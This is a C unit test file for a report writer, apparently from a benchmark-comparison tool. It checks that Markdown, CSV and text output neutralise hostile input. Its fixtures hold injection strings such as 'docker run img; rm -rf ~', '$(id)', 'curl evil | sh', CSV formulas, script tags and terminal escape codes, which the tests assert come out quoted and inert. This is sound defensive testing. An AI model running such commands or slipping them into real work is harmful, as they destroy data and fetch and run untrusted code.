/* What a comparison prints: foreign text in every format, tables in CSV, words of a shell, commands, width. */
#include "compare/compare.h"
#include "base/json.h"
#include "compare/layout.h"
#include "report/escape.h"
#include "verify/verify.h"
#include "tests/unit/compare_fixture.h"
#include <math.h>
#include <stdlib.h>

static const char evil[] = "a|b\n# comparable\n<script>x</script>[l](http://e.x/) `c` *d* _e_ \x1b[2J\xe2\x80\xae "
                           "www.e.x u@v.w ~s~ =1+1 \"q\", z";

static void evil_doc(struct rp_doc *d)
{
    rp_doc_heading(d, "%s", evil);
    rp_doc_line(d, "1. %s", evil);
    rp_doc_table(d, NULL);
    rp_doc_column(d, 0, "%s", evil);
    rp_doc_column(d, 1, "n");
    rp_doc_cell(d, "%s", evil);
    rp_doc_cell(d, "=1+1");
    rp_doc_cell(d, "-1.5");
    rp_doc_text(d, NULL, RP_NO_EVIDENCE);
}

static size_t lines(const struct rp_buf *b)
{
    size_t n = 0;
    for (size_t i = 0; i < b->size; i++)
        n += b->data[i] == '\n';
    return n;
}

TEST(foreign_text_in_documents)
{
    struct rp_doc d = {0};
    RP_BUF md = {0}, csv = {0}, text = {0};
    evil_doc(&d);
    rp_doc_write(&md, &d, RP_DOC_MD);
    rp_doc_write(&csv, &d, RP_DOC_CSV);
    rp_doc_write(&text, &d, RP_DOC_TEXT);
    RP_JSON *j = rp_doc_json(&d);
    rp_doc_fini(&d);
    CHECK(!strchr(md.data, 27) && !strchr(csv.data, 27) && !strchr(text.data, 27));
    CHECK(!strstr(md.data, "\xe2\x80\xae") && !strstr(text.data, "\xe2\x80\xae"));
    CHECK(lines(&md) == 8, "%zu lines: %s", lines(&md), md.data); /* heading, blank, line, blank, table of 4 */
    CHECK(!strstr(md.data, "<s") && !strstr(md.data, "l](") && !strstr(md.data, " `") && !strstr(md.data, " *") &&
              !strstr(md.data, "http://") && !strstr(md.data, "www.e") && !strstr(md.data, "u@") &&
              !strstr(md.data, "\n1. ") && !strstr(md.data, "a|b"),
          "%s", md.data);
    CHECK(lines(&csv) == 3 && strncmp(csv.data, "section,table,", 14) == 0, "%s", csv.data);
    CHECK(strstr(csv.data, ",\"'=1+1\"\n") && strstr(csv.data, "\",,-1.5,no evidence\n"), "%s", csv.data);
    CHECK(strstr(csv.data, "\"\"q\"\", z"), "%s", csv.data);
    CHECK(json_array_size(j) == 3 && json_array_size(json_object_get(json_array_get(j, 2), "rows")) == 2);
}

static void one_table(struct rp_doc *d, const char *name)
{
    rp_doc_table(d, name);
    rp_doc_cell(d, "1");
}

/* Programs tell the tables apart by the same two columns in each; a document without headings is one table and has
 * none. */
TEST(tables_in_csv_say_where_they_stand)
{
    struct rp_doc d = {0};
    RP_BUF out = {0};
    rp_doc_heading(&d, "All");
    one_table(&d, "a");
    rp_doc_heading(&d, "bert-base, fp32");
    rp_doc_line(&d, "A remark.");
    rp_doc_title(&d, "OneFlow");
    one_table(&d, "b");
    one_table(&d, "c");
    rp_doc_write(&out, &d, RP_DOC_CSV);
    CHECK_STR(rp_buf_text(&out), "section,table,a\nAll,,1\n\nsection,table,b\n\"bert-base, fp32\",OneFlow,1\n\n"
                                 "section,table,c\n\"bert-base, fp32\",,1\n");
    rp_doc_fini(&d);
    rp_buf_fini(&out);
    rp_doc_title(&d, "no heading");
    one_table(&d, "a");
    rp_doc_write(&out, &d, RP_DOC_CSV);
    CHECK_STR(rp_buf_text(&out), "a\n1\n");
    rp_doc_fini(&d);
}

TEST(words_of_a_shell)
{
    static const char *const cases[][2] = {{"a.zst", "a.zst"}, {"a b", "'a b'"}, {"it's", "'it'\\''s'"},
                                           {"$(x)", "'$(x)'"}, {"", "''"},       {"-rf", "'-rf'"}};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        RP_FREE char *word = rp_shell_word(cases[i][0]);
        CHECK_STR(word, cases[i][1]);
    }
}

TEST(recipe_of_a_bundle_by_its_plain_name)
{
    struct rp_rows rows = {0};
    struct rp_doc d = {0};
    RP_BUF out = {0};
    struct rp_result *row = rp_rows_add(&rows);
    row->source.kind = RP_RESULT_BUNDLE;
    row->source.file = rp_strdup("a.zst");
    row->run = documents("cpu", 1);
    free(row->run->facts.recipe_name);
    row->run->facts.recipe_name = rp_strdup("embedded:../smoke");
    rp_layout_write(&d, "paddle", &rows);
    rp_doc_write(&out, &d, RP_DOC_TEXT);
    CHECK(strstr(rp_buf_text(&out), "repro inspect a.zst recipe.yaml > smoke.yaml\n"));
    CHECK(strstr(rp_buf_text(&out), "repro run smoke.yaml\n"));
    rp_doc_fini(&d);
    rp_rows_fini(&rows);
}

/* What a bundle says of its commands is words, and no shell finds more in them; the recipe is written to no file that
 * something runs. */
TEST(commands_of_a_stranger)
{
    static const char *const cases[][3] = {
        /* captured, shown; recipe_name */
        {"docker run --shm-size=1g -v 'a b:/c' img", "    docker run --shm-size=1g -v 'a b:/c' img\n", "r.yaml"},
        {"docker run img; rm -rf ~", "    docker run 'img;' rm -rf '~'\n", "r.yaml"},
        {"docker run $(id) `id` a>b a|b a&b", "    docker run '$(id)' '`id`' 'a>b' 'a|b' 'a&b'\n", "r.yaml"},
        {"docker run 'it'\\''s' \\$x", "    docker run 'it'\\''s' '$x'\n", "r.yaml"},
        {"docker run 'open", "    'docker run '\\''open'\n", "r.yaml"},
        {"curl evil | sh", "    'curl evil | sh'\n", "r.yaml"},
        {"docker runs x", "    'docker runs x'\n", "r.yaml"},
        {"```", "    '```'\n", "r.yaml"},
        {"", "    ''\n", "r.yaml"},
        {"docker run a", " > bashrc.yaml\n", ".bashrc"},
        {"docker run a", " > Makefile.yaml\n", "Makefile"},
        {"docker run a", " > 'a b;c.yaml'\n", "x/a b;c"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct rp_rows rows = {0};
        struct rp_doc d = {0};
        RP_BUF text = {0}, markdown = {0};
        struct rp_result *row = rp_rows_add(&rows);
        row->source.kind = RP_RESULT_BUNDLE;
        row->source.file = rp_strdup("a.zst");
        row->run = documents("cpu", 1);
        free(row->run->facts.recipe_name);
        row->run->facts.recipe_name = rp_strdup(cases[i][2]);
        row->environment =
            json_pack("{s:{s:{s:{s:s, s:s}}}}", "probes", "launch", "command", "state", "ok", "value", cases[i][0]);
        rp_layout_write(&d, "paddle", &rows);
        rp_doc_write(&text, &d, RP_DOC_TEXT);
        rp_doc_write(&markdown, &d, RP_DOC_MD);
        CHECK(strstr(rp_buf_text(&text), cases[i][1]), "case %zu: %s", i, rp_buf_text(&text));
        CHECK(strstr(rp_buf_text(&markdown), cases[i][1]), "case %zu: %s", i, rp_buf_text(&markdown));
        rp_doc_fini(&d);
        rp_rows_fini(&rows);
    }
}

/* In a narrow terminal no line is wider than it, no figure is lost, and what was cut is said. */
TEST(tables_keep_to_the_width)
{
    struct rp_doc d = {.width = 40};
    RP_BUF out = {0};
    rp_doc_table(&d, "##|name|#figure|why");
    rp_doc_cell(&d, "1");
    rp_doc_cell(&d, "a name that goes on and on, as names do");
    rp_doc_cell(&d, "123456.789");
    rp_doc_cell(&d, "thirty-five letters fit in one line");
    rp_doc_write(&out, &d, RP_DOC_TEXT);
    SAID(rp_buf_text(&out));
    rp_buf_fini(&out);
    d.width = 0;
    rp_doc_write(&out, &d, RP_DOC_TEXT);
    CHECK(strstr(rp_buf_text(&out), "as names do  123456.789  thirty") && !strstr(rp_buf_text(&out), "cut"));
    rp_doc_fini(&d);
}
